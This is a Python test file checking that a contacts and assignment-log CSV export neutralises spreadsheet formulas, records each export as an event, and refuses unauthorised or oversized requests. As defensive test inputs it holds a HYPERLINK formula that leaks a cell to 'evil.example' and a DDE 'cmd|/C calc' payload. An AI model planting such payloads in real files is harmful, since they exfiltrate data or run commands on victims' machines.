"""Data as files: whole, harmless to spreadsheets, and never without an event (CON-04, PRV-10, SE-04)."""

import csv
import io
import sys
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import example, given
from hypothesis import strategies as st

from api import tables
from api.tables import CONTACTS, cell
from application.contact import CreateContact
from domain.account.events import DataExported
from infrastructure.cli.__main__ import postroom
from tests.api.test_conversations import mail
from tests.support.api import Client, Reply, Served
from tests.support.world import World

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")  # noqa: RUF001 - that is what is tested
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.req("SE-04", "CON-04")
@pytest.mark.parametrize("start", STARTS)
@pytest.mark.parametrize("before", ["", " ", "\0", "  \t", "\xa0"])
def test_no_cell_begins_a_formula(start: str, before: str) -> None:
    if start.isspace() and before:
        return
    assert cell(f"{before}{start}cmd|'/C calc'!A0")[0] == "'"


@pytest.mark.req("SE-04", "CON-04")
@given(st.text())
@example("-1")
@example('a","=1+1')
@example("a\r\n=1+1")
def test_what_is_written_is_read_back_and_begins_no_formula(text: str) -> None:
    written = tables.written([[text, 5]])
    ((read, number),) = csv.reader(io.StringIO(written, newline=""))
    plain = text.replace("\0", "")
    assert read in {plain, f"'{plain}"}
    assert not read.lstrip().startswith(STARTS)
    assert number == "5"


def rows_of(answer: Reply) -> list[list[str]]:
    assert answer.status_code == 200, answer.get_data(as_text=True)[:300]
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
    return list(csv.reader(io.StringIO(answer.get_data(as_text=True), newline="")))


def exported(world: World) -> list[tuple[str, int, tuple[str, ...], str]]:
    return [
        (one.what, one.rows, one.filters, one.envelope.actor)
        for one in world.happened(world.account, DataExported)
    ]


@pytest.fixture
def company(api: Served) -> tuple[World, Client]:
    world = api.world()
    return world, api.client(world)


@pytest.mark.req("CON-04", "PRV-10", "SE-04", "API-07")
def test_contacts_are_exported_by_the_api_and_the_command_line_and_both_say_so(
    api: Served, company: tuple[World, Client], monkeypatch: pytest.MonkeyPatch
) -> None:
    world, client = company
    monkeypatch.setattr(tables, "BATCH", 2)
    made = [
        world.make(CreateContact(name, world.address(f"p{n}")))
        for n, name in enumerate([FORMULA, "Żaneta", "C", "D"])
    ]
    gone = world.make(CreateContact("Gone", world.address("gone")))
    api.caught_up()
    assert client.post(f"/contacts/{gone}/erase").status_code == 200
    api.world().make(CreateContact("Foreign", world.address("foreign")))
    answer = client.get("/contacts.csv")
    head, *rows = rows_of(answer)
    assert head == list(CONTACTS.columns)
    assert [row[0] for row in rows] == sorted(map(str, made))
    assert sorted(row[1] for row in rows) == ["'" + FORMULA, "C", "D", "Żaneta"]
    assert answer.headers["Content-Disposition"] == 'attachment; filename="contacts.csv"'
    client.get("/contacts.csv", **{"Idempotency-Key": "k"})
    client.get("/contacts.csv", **{"Idempotency-Key": "k"})
    assert exported(world) == [("contacts", 4, (), f"user:{world.admin}")] * 3

    settings = api.application.settings
    environment = settings.to_env() | {"POSTROOM_REDIS_URL": "redis://127.0.0.1:1"}
    printed = CliRunner().invoke(
        postroom, ["export", "contacts", "--csv", "--account", str(world.account)], env=environment
    )
    assert printed.exit_code == 0, printed.output
    assert list(csv.reader(io.StringIO(printed.output))) == [head, *rows]
    assert exported(world)[-1] == ("contacts", 4, (), "operator:cli")


@pytest.mark.req("CON-04", "PRV-10", "ACC-10")
def test_the_assignment_log_is_exported_as_far_as_one_sees_it(
    api: Served, company: tuple[World, Client]
) -> None:
    world, client = company
    channel = world.channel(users=(world.user("Ann"),), tickets=True)
    for _ in range(3):
        world.mail(channel, mail())
    api.caught_up()
    head, *rows = rows_of(client.get("/assignments.csv?kind=assignment"))
    at = head.index("position")
    assert len(rows) == 3
    assert [int(row[at]) for row in rows] == sorted((int(row[at]) for row in rows), reverse=True)
    assert {row[head.index("outcome")] for row in rows} == {"assigned"}
    assert exported(world) == [("assignments", 3, ("kind=assignment",), f"user:{world.admin}")]
    printed = CliRunner().invoke(
        postroom,
        ["export", "assignments", "--csv", "--account", str(world.account)],
        env=api.application.settings.to_env() | {"POSTROOM_REDIS_URL": "redis://127.0.0.1:1"},
    )
    assert printed.exit_code == 0, printed.output
    assert len(list(csv.reader(io.StringIO(printed.output)))) == 4


@pytest.mark.req("CON-04", "ACC-10", "SE-01")
def test_who_may_not_or_asks_for_too_much_gets_nothing_and_nothing_is_recorded(
    api: Served, company: tuple[World, Client], monkeypatch: pytest.MonkeyPatch
) -> None:
    world, client = company
    agent = api.client(world, world.user("Ann"))
    world.make(CreateContact("A", world.address("a")))
    api.caught_up()
    assert agent.get("/contacts.csv").status_code == 403
    assert agent.get("/assignments.csv").status_code == 403
    monkeypatch.setattr(sys.modules["api.resources.exports"], "MOST", 0)
    refused = client.get("/contacts.csv")
    assert (refused.status_code, refused.json["code"]) == (413, "too_many_rows")
    assert exported(world) == []


@pytest.mark.req("CON-04")
def test_no_more_leaves_than_was_recorded() -> None:
    def endless(_after: object, limit: int) -> list[Any]:
        return [1] * limit

    table = tables.Table("contacts", ("n",), lambda row: (row,), lambda row: row)
    assert "".join(table.lines(endless, 3)).count("\r\n") == 4
